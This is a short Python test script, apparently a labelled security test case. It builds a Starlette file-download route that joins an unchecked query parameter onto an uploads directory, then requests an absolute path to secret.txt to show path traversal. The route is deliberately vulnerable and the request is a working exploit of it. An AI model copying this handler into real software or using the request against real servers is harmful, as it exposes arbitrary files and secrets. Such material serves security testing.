# attack: path-traversal
# needs: starlette,httpx
import os
from starlette.applications import Starlette
from starlette.responses import FileResponse
from starlette.routing import Route
from starlette.testclient import TestClient
async def get(request):
    return FileResponse(os.path.join(os.path.abspath("uploads"), request.query_params["name"]))
client = TestClient(Starlette(routes=[Route("/get", get)]), raise_server_exceptions=False)
print(client.get("/get", params={"name": os.path.abspath("secret.txt")}).text)
